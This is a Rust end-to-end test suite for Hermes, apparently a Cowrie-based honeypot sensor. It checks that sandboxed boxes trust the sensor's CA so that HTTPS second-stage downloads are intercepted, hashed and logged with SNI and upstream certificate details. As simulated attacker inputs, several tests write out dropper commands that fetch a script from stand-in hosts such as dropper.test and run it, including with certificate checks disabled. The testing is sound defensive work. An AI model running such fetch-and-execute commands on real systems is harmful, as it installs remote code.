//! HTTPS from the box (`egress.mode: fetch`): every box trusts the sensor's own CA,
//! generated at first start beside the host keys, so its TLS to any address ends at
//! Hermes with a certificate it accepts, and the fetch is reported with its SNI.
//! Nothing public is ever contacted: upstream is allowed to loopback only.

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use hermes_core::address_block::AddressBlock;
use hermes_core::config::EgressMode;
use serde_json::Value;

use crate::client::{ROOT_PROMPT, Shell, output_lines};
use crate::egress_fetch::egress_options;
use crate::egress_fetch::internet::TestInternet;
use crate::harness::{Hermes, Options};

async fn run(shell: &mut Shell, command: &str) -> Vec<String> {
    let out = shell.run(command, ROOT_PROMPT).await;
    output_lines(&out)
        .into_iter()
        .filter(|line| !line.is_empty())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_https_the_box_trusts_the_sensor_ca_and_its_tls_ends_at_hermes() {
    require_docker!();
    let hermes = Hermes::start(Options::default().configure(|c| {
        c.egress.mode = EgressMode::Fetch;
        c.capture.enabled = true;
        c.egress.upstream_allow = vec![AddressBlock::parse("127.0.0.1/32").expect("block")];
        c.egress.dns.static_only = true;
    }));
    let keys = hermes.dir.path().join("keys");
    let ca = std::fs::read_to_string(keys.join("egress_ca.crt")).expect("the sensor's CA");
    let mode = std::fs::metadata(keys.join("egress_ca.key"))
        .expect("its key")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;

    // Where update-ca-certificates would have put it, and in the bundle, last.
    let listed = run(&mut shell, "ls /usr/local/share/ca-certificates/").await;
    assert_eq!(
        listed,
        ["Northwave_Hosting_Internal_CA_G2.crt"],
        "{listed:?}"
    );
    let subject = run(
        &mut shell,
        "openssl x509 -noout -subject -in /etc/ssl/certs/Northwave_Hosting_Internal_CA_G2.pem",
    )
    .await;
    assert_eq!(
        subject,
        ["subject=O = Northwave Hosting Ltd, CN = Northwave Hosting Internal CA G2"],
        "{subject:?}"
    );
    // OpenSSL's directory lookup finds it by its subject hash, as c_rehash links it.
    let linked = run(
        &mut shell,
        "(cd /etc/ssl/certs && readlink \"$(openssl x509 -noout -hash -in Northwave_Hosting_Internal_CA_G2.pem).0\")",
    )
    .await;
    assert_eq!(
        linked,
        ["Northwave_Hosting_Internal_CA_G2.pem"],
        "{linked:?}"
    );
    let lines = ca.lines().count();
    let tail = run(
        &mut shell,
        &format!("tail -n {lines} /etc/ssl/certs/ca-certificates.crt"),
    )
    .await;
    assert_eq!(
        tail.join("\n"),
        ca.trim_end(),
        "the bundle ends with the CA"
    );
    let roots = run(
        &mut shell,
        "grep -c BEGIN /etc/ssl/certs/ca-certificates.crt",
    )
    .await;
    let roots: usize = roots[0].parse().expect("a count");
    assert!(roots > 100, "the image's roots are kept: {roots}");

    // curl without -k: the handshake with the gateway succeeds (exit 60 would be a
    // certificate refused); upstream is refused, so the reply is empty (52).
    let curl = run(
        &mut shell,
        "curl -sS -o /dev/null --max-time 10 --resolve dropper.test:443:203.0.113.10 https://dropper.test/stage2.sh 2>&1; echo rc=$?",
    )
    .await;
    assert_eq!(curl.last().map(String::as_str), Some("rc=52"), "{curl:?}");
    // Python's urllib (OpenSSL's default paths) trusts it too, by address (no SNI).
    let python = run(
        &mut shell,
        "python3 -c \"import urllib.request as u; u.urlopen('https://203.0.113.11/p.py', timeout=10)\" 2>&1 | tail -n 1",
    )
    .await;
    let python = python.join("\n");
    assert!(!python.contains("CERTIFICATE_VERIFY_FAILED"), "{python}");
    assert!(python.contains("RemoteDisconnected"), "{python}");

    let failed = hermes.wait_for_count("cowrie.session.file_download.failed", 2);
    let by_url = |url: &str| {
        failed
            .iter()
            .find(|e| e["url"] == url)
            .unwrap_or_else(|| panic!("no failure for {url}: {failed:?}"))
            .clone()
    };
    let named = by_url("https://dropper.test/stage2.sh");
    assert_eq!(named["sni"], "dropper.test");
    assert_eq!(named["upstream"], "203.0.113.10:443");
    assert_ne!(named["reason"], "tls_handshake", "{named}");
    let by_address = by_url("https://203.0.113.11/p.py");
    assert!(by_address.get("sni").is_none(), "{by_address}");
    assert!(hermes.events_of("cowrie.session.file_download").is_empty());
}

fn logged_ms(hermes: &Hermes, message: &str, field: &str) -> Vec<u64> {
    hermes
        .output()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["message"] == message)
        .filter_map(|v| {
            let value = &v[field];
            value
                .as_u64()
                .or_else(|| value.as_str().and_then(|s| s.parse().ok()))
        })
        .collect()
}

/// Pool refill time with the CA put into each box (`fetch`) against without
/// (`sinkhole`, the same network). A measurement, as the box start-time comparison
/// is (a shared machine's load moves it): `cargo nextest run -p hermes --test e2e
/// --run-ignored only egress_https_the_ca`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement: prints the figures, run on purpose"]
async fn egress_https_the_ca_adds_little_to_a_box_start() {
    require_docker!();
    const BOXES: u32 = 8;
    let mut medians = Vec::new();
    for mode in [EgressMode::Sinkhole, EgressMode::Fetch] {
        let mut options = Options::default().configure(move |c| {
            c.egress.mode = mode;
            c.capture.enabled = true;
            c.egress.upstream_allow = vec![AddressBlock::parse("127.0.0.1/32").expect("block")];
            c.egress.dns.static_only = true;
        });
        options.pool_size = BOXES;
        let mut hermes = Hermes::start(options);
        let mut times = logged_ms(&hermes, "pool container ready", "create_ms");
        assert_eq!(times.len(), BOXES as usize, "{}", hermes.output());
        times.sort_unstable();
        let median = times[times.len() / 2];
        let mut installs = logged_ms(&hermes, "the sensor's CA put into the box", "elapsed_ms");
        installs.sort_unstable();
        match mode {
            EgressMode::Fetch => assert_eq!(installs.len(), BOXES as usize),
            _ => assert!(installs.is_empty(), "{installs:?}"),
        }
        eprintln!(
            "egress {mode:?}: pool box create-to-ready ms {times:?}, median {median}; CA put in {installs:?}"
        );
        medians.push(median);
        assert!(hermes.terminate().success());
    }
    let added = medians[1].saturating_sub(medians[0]);
    eprintln!("the CA adds {added} ms (median)");
}

/// Runs openssl in `dir`; panics with its error when it fails.
fn openssl(dir: &std::path::Path, args: &[&str]) -> Vec<u8> {
    let out = Command::new("openssl")
        .args(args)
        .current_dir(dir)
        .output()
        .expect("openssl");
    assert!(
        out.status.success(),
        "openssl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// The host's first global IPv4 address: the test's "internet" listens there (a
/// packet to it never leaves the machine), and the box reaches it through Hermes.
fn host_address() -> Option<std::net::Ipv4Addr> {
    let out = Command::new("ip")
        .args(["-4", "-o", "addr", "show", "scope", "global"])
        .output()
        .ok()?;
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|line| {
            line.split_whitespace()
                .nth(3)?
                .split('/')
                .next()?
                .parse()
                .ok()
        })
        .find(|ip: &std::net::Ipv4Addr| {
            !(ip.octets()[0] == 10 && ip.octets()[1] == 0 && ip.octets()[2] == 2)
        })
}

/// An `openssl s_server -WWW` (its own test CA) stopped when dropped.
struct WebServer(std::process::Child);

impl Drop for WebServer {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A box downloads a second stage over HTTPS with curl (no -k: it trusts the
/// sensor's CA) and runs it: the output reaches the client, the body is in the store
/// with its sha256, and the event has the URL, the SNI and the upstream server's
/// certificate, verified against the test's CA given as `egress.tls.extra_roots`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_https_a_second_stage_over_https_is_captured_from_a_real_box() {
    require_docker!();
    let Some(address) = host_address() else {
        panic!("no global IPv4 address on this host for the test's web server");
    };
    let web = tempfile::tempdir().expect("dir");
    let dir = web.path();
    openssl(
        dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "2",
            "-subj",
            "/CN=Test Web Root",
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
        ],
    );
    openssl(
        dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "2",
            "-subj",
            "/CN=dropper.test",
            "-addext",
            "subjectAltName=DNS:dropper.test",
            "-addext",
            "basicConstraints=critical,CA:FALSE",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-keyout",
            "leaf.key",
            "-out",
            "leaf.pem",
        ],
    );
    let leaf_der = openssl(dir, &["x509", "-in", "leaf.pem", "-outform", "DER"]);
    let script = b"#!/bin/sh\necho second stage ran as $(id -un)\n";
    std::fs::write(dir.join("stage2.sh"), script).expect("script");
    let port = std::net::TcpListener::bind((address, 0))
        .expect("a free port")
        .local_addr()
        .expect("port")
        .port();
    let accept = format!("{address}:{port}");
    let _server = WebServer(
        Command::new("openssl")
            .args(["s_server", "-quiet", "-WWW", "-accept", &accept])
            .args(["-cert", "leaf.pem", "-key", "leaf.key"])
            .current_dir(dir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("openssl s_server"),
    );
    let roots = dir.join("ca.pem");
    let allow = format!("{address}/32");
    let hermes = Hermes::start(Options::default().configure(move |c| {
        c.egress.mode = EgressMode::Fetch;
        c.capture.enabled = true;
        c.egress.upstream_allow = vec![AddressBlock::parse(&allow).expect("block")];
        c.egress.upstream_ports.push(port);
        c.egress.dns.static_only = true;
        c.egress.tls.extra_roots = Some(roots.clone());
    }));
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    let out = run(
        &mut shell,
        &format!(
            "curl -sS --max-time 20 --resolve dropper.test:{port}:{address} -o /tmp/stage2.sh https://dropper.test:{port}/stage2.sh && sh /tmp/stage2.sh"
        ),
    )
    .await;
    assert_eq!(
        out,
        ["second stage ran as root"],
        "{out:?}\n{}",
        hermes.output()
    );

    // The fetch's event (the file curl wrote in the box is captured too, later,
    // with its `destfile`).
    let events = hermes.wait_for_events("the fetch's download event", |events| {
        events
            .iter()
            .any(|e| e["eventid"] == "cowrie.session.file_download" && e.get("url").is_some())
    });
    let event = events
        .into_iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download" && e.get("url").is_some())
        .expect("the fetch's event");
    let sha = crate::harness::sha256_hex(script);
    assert_eq!(
        event["url"],
        format!("https://dropper.test:{port}/stage2.sh")
    );
    assert_eq!(event["shasum"], sha.as_str());
    assert_eq!(event["sni"], "dropper.test");
    assert_eq!(event["upstream"], accept.as_str());
    assert_eq!(event["upstream_cert_subject"], "CN=dropper.test");
    assert_eq!(event["upstream_cert_issuer"], "CN=Test Web Root");
    assert_eq!(
        event["upstream_cert_sha256"],
        crate::harness::sha256_hex(&leaf_der).as_str()
    );
    let stored = std::path::PathBuf::from(event["outfile"].as_str().expect("outfile"));
    assert!(
        stored.starts_with(hermes.downloads()),
        "{}",
        stored.display()
    );
    assert_eq!(crate::harness::sha256_file(&stored), sha);
}

/// A certificate for `name` signed by a CA of the test's own, made in `dir`: the
/// CA (PEM), the leaf and its key (PEM), the leaf's DER.
fn web_pki(dir: &std::path::Path, name: &str) -> (std::path::PathBuf, Vec<u8>, Vec<u8>, Vec<u8>) {
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-days",
        "2",
    ];
    let mut args = vec!["req", "-x509"];
    args.extend(ec);
    args.extend([
        "-subj",
        "/CN=Test Web Root",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
    ]);
    openssl(dir, &args);
    let subject = format!("/CN={name}");
    let san = format!("subjectAltName=DNS:{name}");
    let mut args = vec!["req", "-x509"];
    args.extend(ec);
    args.extend(["-subj", &subject, "-addext", &san]);
    args.extend(["-addext", "basicConstraints=critical,CA:FALSE"]);
    args.extend([
        "-CA", "ca.pem", "-CAkey", "ca.key", "-keyout", "leaf.key", "-out", "leaf.pem",
    ]);
    openssl(dir, &args);
    let der = openssl(dir, &["x509", "-in", "leaf.pem", "-outform", "DER"]);
    let cert = std::fs::read(dir.join("leaf.pem")).expect("leaf");
    let key = std::fs::read(dir.join("leaf.key")).expect("key");
    (dir.join("ca.pem"), cert, key, der)
}

/// The dropper: `wget http://dropper.test/x.sh && sh x.sh`, whose curl
/// fetches the second stage over HTTPS by name from the test's own internet (a
/// Docker network of its own; names from the static map); Python's urllib over
/// HTTPS too. Both bodies stored with the sha256 served, the script's output at the
/// client, the HTTPS events with the SNI and the upstream certificate.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_https_a_dropper_fetches_its_second_stage_over_https_by_name() {
    require_docker!();
    let pki = tempfile::tempdir().expect("dir");
    let (roots, cert, key, leaf_der) = web_pki(pki.path(), "cdn.test");
    let dropper = b"#!/bin/sh\necho stage-one-ran\ncurl -sS -o /tmp/second.bin https://cdn.test/second.bin && echo \"second: $(sha256sum /tmp/second.bin | cut -c1-64)\"\n".to_vec();
    let second: Vec<u8> = (0..5000u32).map(|i| (i * 7 % 251) as u8).collect();
    let py = b"fetched by python over https\n".to_vec();
    let internet = TestInternet::start_with(
        "https",
        &[
            ("x.sh", dropper.clone()),
            ("second.bin", second.clone()),
            ("py.bin", py.clone()),
        ],
        Some((&cert, &key)),
    );
    let server = internet.server;
    let hermes = Hermes::start(
        egress_options(&internet, EgressMode::Fetch)
            .configure(move |c| c.egress.tls.extra_roots = Some(roots.clone())),
    );
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    let out = run(
        &mut shell,
        "wget -q -O /tmp/x.sh http://dropper.test/x.sh && sh /tmp/x.sh",
    )
    .await;
    let second_sha = crate::harness::sha256_hex(&second);
    assert_eq!(
        out,
        ["stage-one-ran".to_owned(), format!("second: {second_sha}")],
        "{}",
        hermes.output()
    );
    let out = run(
        &mut shell,
        "python3 -c \"import urllib.request as u; print(len(u.urlopen('https://cdn.test/py.bin', timeout=20).read()))\"",
    )
    .await;
    assert_eq!(out, [py.len().to_string()], "{out:?}");

    let downloads = |url: &str| {
        let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
            events
                .iter()
                .any(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
        });
        events
            .into_iter()
            .find(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
            .expect("the download")
    };
    let stored = |event: &Value| {
        std::fs::read(event["outfile"].as_str().expect("outfile")).expect("stored file")
    };
    let first = downloads("http://dropper.test/x.sh");
    assert_eq!(stored(&first), dropper);
    assert!(first.get("sni").is_none(), "{first}");
    let leaf_sha = crate::harness::sha256_hex(&leaf_der);
    for (url, body) in [
        ("https://cdn.test/second.bin", &second),
        ("https://cdn.test/py.bin", &py),
    ] {
        let event = downloads(url);
        assert_eq!(event["shasum"], crate::harness::sha256_hex(body), "{event}");
        assert_eq!(&stored(&event), body);
        assert_eq!(event["sni"], "cdn.test");
        assert_eq!(event["upstream"], format!("{server}:443"));
        assert_eq!(event["upstream_cert_sha256"], leaf_sha.as_str());
        assert_eq!(event["upstream_cert_issuer"], "CN=Test Web Root");
    }
    // They reached the server (on 443, as `upstream` says).
    let (requests, _) = internet.stats();
    assert!(requests.contains(&"/second.bin".to_owned()), "{requests:?}");
    assert!(requests.contains(&"/py.bin".to_owned()), "{requests:?}");
}

/// A self-signed certificate for `name`, made in `dir` as a payload server's
/// operator makes one (`openssl req -x509`): the certificate and its key (PEM), and
/// the certificate's DER.
pub(crate) fn self_signed(dir: &std::path::Path, name: &str) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    let subject = format!("/O=Payload Hosting/CN={name}");
    let san = format!("subjectAltName=DNS:{name}");
    openssl(
        dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "30",
            "-subj",
            &subject,
            "-addext",
            &san,
            "-keyout",
            "self.key",
            "-out",
            "self.pem",
        ],
    );
    let der = openssl(dir, &["x509", "-in", "self.pem", "-outform", "DER"]);
    let cert = std::fs::read(dir.join("self.pem")).expect("certificate");
    let key = std::fs::read(dir.join("self.key")).expect("key");
    (cert, key, der)
}

/// A payload server with a self-signed certificate, reached by name from the box
/// with upstream verification on (the default): `curl -k` and `wget
/// --no-check-certificate` get the body, which is kept with the sha256 served; plain
/// `curl` fails its certificate check (exit 60) as it would against the real server,
/// nothing is asked of the server for it and nothing is kept; every event says the
/// upstream certificate did not verify, and names it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_https_a_self_signed_server_serves_curl_k_and_wget_but_plain_curl_fails_as_it_would()
{
    require_docker!();
    let pki = tempfile::tempdir().expect("dir");
    let (cert, key, der) = self_signed(pki.path(), "selfsigned.test");
    let with_k = b"#!/bin/sh\necho fetched with curl -k\n".to_vec();
    let with_wget: Vec<u8> = (0..9000u32).map(|i| (i * 13 % 251) as u8).collect();
    let verified = b"never fetched\n".to_vec();
    let internet = TestInternet::start_with(
        "selfsigned",
        &[
            ("k.sh", with_k.clone()),
            ("w.bin", with_wget.clone()),
            ("v.bin", verified.clone()),
        ],
        Some((&cert, &key)),
    );
    let server = internet.server;
    let hermes = Hermes::start(
        egress_options(&internet, EgressMode::Fetch).configure(move |c| {
            c.egress
                .dns
                .static_hosts
                .insert("selfsigned.test".to_owned(), server.into());
            assert!(c.egress.tls.verify_upstream, "the default verifies");
        }),
    );
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    let out = run(
        &mut shell,
        "curl -sS -k --max-time 20 -o /tmp/k.sh https://selfsigned.test/k.sh; echo k rc=$?; \
         wget -q -t 1 -T 20 --no-check-certificate -O /tmp/w.bin https://selfsigned.test/w.bin; echo w rc=$?; \
         curl -sS --max-time 20 -o /tmp/v.bin https://selfsigned.test/v.bin; echo v rc=$?; \
         sh /tmp/k.sh; sha256sum /tmp/w.bin | cut -c1-64; test -e /tmp/v.bin || echo no v.bin",
    )
    .await;
    let text = out.join("\n");
    assert!(out.contains(&"k rc=0".to_owned()), "{text}");
    assert!(out.contains(&"w rc=0".to_owned()), "{text}");
    assert!(out.contains(&"v rc=60".to_owned()), "{text}");
    assert!(
        text.contains("SSL certificate problem: self-signed certificate"),
        "curl's own words: {text}"
    );
    assert!(out.contains(&"fetched with curl -k".to_owned()), "{text}");
    let wget_sha = crate::harness::sha256_hex(&with_wget);
    assert!(out.contains(&wget_sha), "{text}");
    assert!(out.contains(&"no v.bin".to_owned()), "{text}");

    let download = |url: &str| {
        let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
            events
                .iter()
                .any(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
        });
        events
            .into_iter()
            .find(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
            .expect("the download")
    };
    let cert_sha = crate::harness::sha256_hex(&der);
    for (url, body) in [
        ("https://selfsigned.test/k.sh", &with_k),
        ("https://selfsigned.test/w.bin", &with_wget),
    ] {
        let event = download(url);
        assert_eq!(event["shasum"], crate::harness::sha256_hex(body), "{event}");
        let stored = event["outfile"].as_str().expect("outfile");
        assert_eq!(&std::fs::read(stored).expect("stored"), body);
        assert_eq!(event["sni"], "selfsigned.test", "{event}");
        assert_eq!(event["upstream"], format!("{server}:443"));
        assert_eq!(event["upstream_cert_sha256"], cert_sha.as_str(), "{event}");
        assert_eq!(
            event["upstream_cert_subject"],
            "O=Payload Hosting, CN=selfsigned.test"
        );
        assert_eq!(event["upstream_cert_verified"], false, "{event}");
        assert!(
            event["upstream_cert_error"]
                .as_str()
                .is_some_and(|e| !e.is_empty()),
            "{event}"
        );
    }
    // Plain curl: refused in its handshake, the reason in the event, nothing kept.
    let failed = hermes.wait_for_events("plain curl's failure", |events| {
        events.iter().any(|e| {
            e["eventid"] == "cowrie.session.file_download.failed"
                && e["url"] == "https://selfsigned.test/"
        })
    });
    let failure = failed
        .iter()
        .find(|e| {
            e["eventid"] == "cowrie.session.file_download.failed"
                && e["url"] == "https://selfsigned.test/"
        })
        .expect("the failure");
    assert_eq!(failure["reason"], "tls_handshake", "{failure}");
    assert_eq!(failure["sni"], "selfsigned.test", "{failure}");
    assert_eq!(failure["upstream_cert_verified"], false, "{failure}");
    assert_eq!(failure["upstream_cert_sha256"], cert_sha.as_str());
    let verified_sha = crate::harness::sha256_hex(&verified);
    assert!(
        !hermes
            .events_of("cowrie.session.file_download")
            .iter()
            .any(|e| e["shasum"] == verified_sha.as_str()
                || e["url"].as_str().is_some_and(|u| u.contains("v.bin"))),
        "nothing of v.bin is kept"
    );
    let (requests, _) = internet.stats();
    assert!(requests.contains(&"/k.sh".to_owned()), "{requests:?}");
    assert!(requests.contains(&"/w.bin".to_owned()), "{requests:?}");
    assert!(!requests.contains(&"/v.bin".to_owned()), "{requests:?}");
}
